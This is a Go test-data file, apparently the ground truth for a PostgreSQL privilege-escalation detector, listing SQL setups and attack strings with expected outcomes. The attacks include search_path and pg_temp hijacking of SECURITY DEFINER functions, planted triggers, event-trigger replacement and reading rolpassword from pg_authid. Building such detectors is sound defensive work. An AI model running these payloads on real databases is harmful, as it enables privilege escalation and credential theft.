package postgres

const (
	definer = "create function {s}.f() returns void language plpgsql security definer as 'begin perform helper(); end'; alter function {s}.f() owner to {v}; revoke execute on function {s}.f() from public; grant execute on function {s}.f() to {a}; "
	masked  = "create table {s}.items (n int); create function {s}.f() returns bigint language plpgsql security definer %s as 'begin return (select count(n) from items); end'; " +
		"alter table {s}.items owner to {v}; alter function {s}.f() owner to {v}; revoke execute on function {s}.f() from public; grant execute on function {s}.f() to {a}; grant temporary on database {db} to {a}"
	own = "; grant all on schema {o} to {a} with grant option"

	bend = "grant usage on schema {o} to public; create function {o}.helper() returns void language sql as 'insert into {s}.loot values (current_user)'; set search_path = {o}; select {s}.f()"
	mask = "create function pg_temp.evil() returns int language sql as 'insert into {s}.loot values (current_user) returning 1'; grant all on function pg_temp.evil() to public; " +
		"create function pg_temp.evil2() returns int language sql as 'select 1'; create temporary view items as select pg_temp.evil() as n; grant all on items to public; select {s}.f()"

	trigger = "create function {o}.tr() returns trigger language plpgsql as 'begin insert into {s}.loot values (current_user); return new; end'; grant usage on schema {o} to public; create trigger tr before insert on {s}.t for each row execute function {o}.tr()"
	written = "set session authorization {v}; insert into {s}.t values (1); reset session authorization"

	eventTrigger_ = "create function {s}.et() returns event_trigger language plpgsql as 'begin end'; "
	etAttack      = "create or replace function {s}.et() returns event_trigger language plpgsql as 'begin insert into {s}.loot values (current_user); end'"
	etFires       = "create domain {s}.dom as int"
)

// truthsOfCode are those where the attacker's code runs as somebody else.
var truthsOfCode = []truth{
	// PG_SECURITY_DEFINER
	{technique: "PG_SECURITY_DEFINER", name: "the caller's search_path", find: true, setup: definer + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "a schema of its own path", find: true, setup: definer + "alter function {s}.f() set search_path = {o}, pg_temp" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "pg_temp comes first", find: true, setup: sprintf(masked, "set search_path = {s}"), attack: mask, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "pg_temp comes last", setup: sprintf(masked, "set search_path = {s}, pg_temp"), attack: mask, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "no EXECUTE", setup: definer + "revoke execute on function {s}.f() from {a}" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "its own search_path", setup: definer + "alter function {s}.f() set search_path = {s}, pg_temp" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "nowhere to make anything", setup: definer, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "no SECURITY DEFINER", setup: definer + "alter function {s}.f() security invoker" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "all names have their schema", setup: "create function {s}.f() returns void language plpgsql security definer as 'begin perform {s}.helper(); end'; create function {s}.helper() returns int language sql as 'select 1'; alter function {s}.f() owner to {v}; grant execute on function {s}.f() to {a}" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "bound when it was made", setup: "create function {s}.helper() returns int language sql as 'select 1'; set search_path = {s}; create function {s}.f() returns int language sql security definer begin atomic select helper(); end; reset search_path; alter function {s}.f() owner to {v}; grant execute on function {s}.f() to {a}" + own, attack: bend, loot: "{v}"},
	{technique: "PG_SECURITY_DEFINER", name: "no USAGE on its schema", setup: definer + "revoke usage on schema {s} from {a}" + own, attack: bend, loot: "{v}"},

	// PG_OWNER
	{technique: "PG_OWNER", name: "replace a function of a superuser", find: true, versions: "18", to: "cluster", setup: "alter role {v} superuser; grant {v} to {a} with inherit true, set false; create function {s}.f() returns void language sql as 'select'; alter schema {s} owner to {v}; alter function {s}.f() owner to {v}",
		attack: "create or replace function {s}.f() returns void language sql security definer as 'insert into {s}.loot values (current_user)'; select {s}.f()", loot: "{v}"},
	{technique: "PG_OWNER", name: "replace a function of initdb", find: true, versions: "18", to: "cluster", setup: "grant postgres to {a} with inherit true, set false",
		attack: "begin; create or replace function pg_catalog.lpad(text, int) returns text language sql security definer as 'select rolpassword from pg_authid limit 1'; select lpad('x', 1); rollback"},
	{technique: "PG_OWNER", name: "no CREATE on its schema", versions: "18", to: "cluster", setup: "alter role {v} superuser; grant {v} to {a} with inherit true, set false; create function {s}.f() returns void language sql as 'select'; alter function {s}.f() owner to {v}",
		attack: "create or replace function {s}.f() returns void language sql security definer as 'insert into {s}.loot values (current_user)'; select {s}.f()", loot: "{v}"},
	{technique: "PG_OWNER", name: "INHERIT FALSE", versions: "18", to: "cluster", setup: "alter role {v} superuser; grant {v} to {a} with inherit false, set false; create function {s}.f() returns void language sql as 'select'; alter schema {s} owner to {v}; alter function {s}.f() owner to {v}",
		attack: "create or replace function {s}.f() returns void language sql security definer as 'insert into {s}.loot values (current_user)'; select {s}.f()", loot: "{v}"},
	{technique: "PG_OWNER", name: "a function of somebody else", versions: "18", setup: "grant {v} to {a} with inherit true, set false; create function {s}.f() returns void language sql as 'select'; alter schema {s} owner to {v}",
		attack: "create or replace function {s}.f() returns void language sql security definer as 'insert into {s}.loot values (current_user)'; select {s}.f()", loot: "{v}"},

	// PG_EVENT_TRIGGER
	{technique: "PG_EVENT_TRIGGER", name: "owner of the function", find: true, to: "cluster", setup: eventTrigger_ + "alter function {s}.et() owner to {a}; grant create on schema {s} to {a}; create event trigger {s}_et on ddl_command_start when tag in ('CREATE DOMAIN') execute function {s}.et()", attack: etAttack, then: etFires, loot: "postgres"},
	{technique: "PG_EVENT_TRIGGER", name: "disabled", to: "cluster", setup: eventTrigger_ + "alter function {s}.et() owner to {a}; grant create on schema {s} to {a}; create event trigger {s}_et on ddl_command_start when tag in ('CREATE DOMAIN') execute function {s}.et(); alter event trigger {s}_et disable", attack: etAttack, then: etFires, loot: "postgres"},
	{technique: "PG_EVENT_TRIGGER", name: "owned by another", to: "cluster", setup: eventTrigger_ + "grant create on schema {s} to {a}; create event trigger {s}_et on ddl_command_start when tag in ('CREATE DOMAIN') execute function {s}.et()", attack: etAttack, then: etFires, loot: "postgres"},
	{technique: "PG_EVENT_TRIGGER", name: "no event trigger", to: "cluster", setup: eventTrigger_ + "alter function {s}.et() owner to {a}; grant create on schema {s} to {a}", attack: etAttack, then: etFires, loot: "postgres"},

	// PG_TRIGGER
	{technique: "PG_TRIGGER", name: "TRIGGER on a table that the victim writes", find: true, setup: "create table {s}.t (n int); grant insert on {s}.t to {v}; grant trigger on {s}.t to {a}" + own, attack: trigger, then: written, loot: "{v}"},
	{technique: "PG_TRIGGER", name: "owner of the table", find: true, setup: "create table {s}.t (n int); alter table {s}.t owner to {a}; grant insert on {s}.t to {v}" + own, attack: trigger, then: written, loot: "{v}"},
	{technique: "PG_TRIGGER", name: "no TRIGGER", setup: "create table {s}.t (n int); grant insert on {s}.t to {v}; grant select on {s}.t to {a}" + own, attack: trigger, then: written, loot: "{v}"},
	{technique: "PG_TRIGGER", name: "the victim only reads", setup: "create table {s}.t (n int); alter table {s}.t owner to {x}; grant select on {s}.t to {v}; grant trigger on {s}.t to {a}" + own, attack: trigger, unasked: "nothing runs when nobody writes"},
	{technique: "PG_TRIGGER", name: "nowhere to make a function", setup: "create table {s}.t (n int); grant insert on {s}.t to {v}; grant trigger on {s}.t to {a}", attack: trigger, then: written, loot: "{v}"},
	{technique: "PG_TRIGGER", name: "no USAGE on the schema", setup: "create table {s}.t (n int); grant insert on {s}.t to {v}; grant trigger on {s}.t to {a}; revoke usage on schema {s} from {a}" + own, attack: trigger, then: written, loot: "{v}"},

	// PG_READ_AUTHID
	{technique: "PG_READ_AUTHID", name: "SELECT on the column", find: true, to: "password", setup: "grant select (rolpassword) on pg_authid to {a}", attack: "select rolpassword from pg_authid"},
	{technique: "PG_READ_AUTHID", name: "SELECT on the table", find: true, to: "password", setup: "grant select on pg_authid to {a}", attack: "select rolpassword from pg_authid"},
	{technique: "PG_READ_AUTHID", name: "pg_read_all_data", find: true, to: "password", setup: "grant pg_read_all_data to {a}", attack: "select rolpassword from pg_authid"},
	{technique: "PG_READ_AUTHID", name: "another column", to: "password", setup: "grant select (rolname) on pg_authid to {a}", attack: "select rolpassword from pg_authid"},
	{technique: "PG_READ_AUTHID", name: "writing is not reading", to: "password", setup: "grant pg_write_all_data to {a}", attack: "select rolpassword from pg_authid"},
	{technique: "PG_READ_AUTHID", name: "revoked", to: "password", setup: "grant pg_read_all_data to {a}; revoke pg_read_all_data from {a}", attack: "select rolpassword from pg_authid"},

	// PG_CATALOG_SECRET
	{technique: "PG_CATALOG_SECRET", name: "SELECT on pg_user_mapping", find: true, to: "secret", setup: userMapping + "grant select on pg_user_mapping to {a}", attack: "select umoptions[1] from pg_user_mapping"},
	{technique: "PG_CATALOG_SECRET", name: "PUBLIC's mapping and the server's owner", find: true, to: "secret", setup: "create server {s}_srv foreign data wrapper fdw_truth; alter server {s}_srv owner to {a}; create user mapping for public server {s}_srv options (user 'u', password 'pw-{a}')", attack: "select 1 / count(*) from pg_user_mappings where srvname = '{s}_srv' and umoptions is not null"},
	{technique: "PG_CATALOG_SECRET", name: "a setting of a role", find: true, to: "secret", setup: "alter role {v} set app.secret_token = 'pw-{a}'", attack: "select 1 / count(*) from pg_db_role_setting where setconfig::text like '%pw-{a}%'"},
	{technique: "PG_CATALOG_SECRET", name: "another column", to: "secret", setup: userMapping + "grant select (umuser) on pg_user_mapping to {a}", attack: "select umoptions[1] from pg_user_mapping"},
	{technique: "PG_CATALOG_SECRET", name: "another role's mapping", to: "secret", setup: userMapping + "alter server {s}_srv owner to {a}", attack: "select 1 / count(*) from pg_user_mappings where srvname = '{s}_srv' and umoptions is not null"},
	{technique: "PG_CATALOG_SECRET", name: "PUBLIC's mapping and somebody else", to: "secret", setup: publicMapping, attack: "select 1 / count(*) from pg_user_mappings where srvname = '{s}_srv' and umoptions is not null"},

	// PG_FOREIGN_SERVER: the wrapper connects nowhere, so using it means to make a foreign table.
	{technique: "PG_FOREIGN_SERVER", name: "USAGE on the server", find: true, to: "mapping", setup: publicMapping + "grant usage on foreign server {s}_srv to {a}" + own, attack: "create foreign table {o}.ft (n int) server {s}_srv"},
	{technique: "PG_FOREIGN_SERVER", name: "no USAGE", to: "mapping", setup: publicMapping + "grant usage on foreign server {s}_srv to {v}" + own, attack: "create foreign table {o}.ft (n int) server {s}_srv"},
	{technique: "PG_FOREIGN_SERVER", name: "another role's mapping", to: "mapping", setup: userMapping + "grant usage on foreign server {s}_srv to {a}", unasked: "the server is used, without that mapping"},
	{technique: "PG_FOREIGN_SERVER", name: "USAGE on the wrapper", to: "mapping", setup: publicMapping + "grant usage on foreign data wrapper fdw_truth to {a}" + own, attack: "create foreign table {o}.ft (n int) server {s}_srv"},

	// PG_REPLICATION
	{technique: "PG_REPLICATION", name: "REPLICATION", find: true, to: "cluster", touch: true, setup: "alter role {a} replication", attack: "replication"},
	{technique: "PG_REPLICATION", name: "without", to: "cluster", touch: true, setup: "alter role {a} noreplication", attack: "replication"},
	{technique: "PG_REPLICATION", name: "not inherited", to: "cluster", touch: true, setup: "alter role {v} replication; grant {v} to {a}", attack: "replication"},
	{technique: "PG_REPLICATION", name: "without LOGIN", to: "cluster", touch: true, setup: "alter role {a} replication nologin", attack: "replication"},

	// PG_DBLINK: pg_hba.conf of these servers trusts nobody; see TestTrustedLocal.
	{technique: "PG_DBLINK", name: "nobody is trusted", to: "cluster", setup: "grant execute on function dblink_connect_u(text) to {a}", attack: "select dblink_connect_u('host={dir} port={port} dbname={db} user=postgres')"},
	{technique: "PG_DBLINK", name: "without EXECUTE", to: "cluster", setup: "select 1", attack: "select dblink_connect_u('host={dir} port={port} dbname={db} user=postgres')"},
	{technique: "PG_DBLINK", name: "dblink_connect asks for a password", to: "cluster", setup: "select 1", attack: "select dblink_connect('host={dir} port={port} dbname={db} user=postgres')"},
}

const publicMapping = "create server {s}_srv foreign data wrapper fdw_truth; create user mapping for public server {s}_srv options (user 'u', password 'pw-{a}'); "

const userMapping = "create server {s}_srv foreign data wrapper fdw_truth; create user mapping for {v} server {s}_srv options (user 'u', password 'pw-{a}'); "
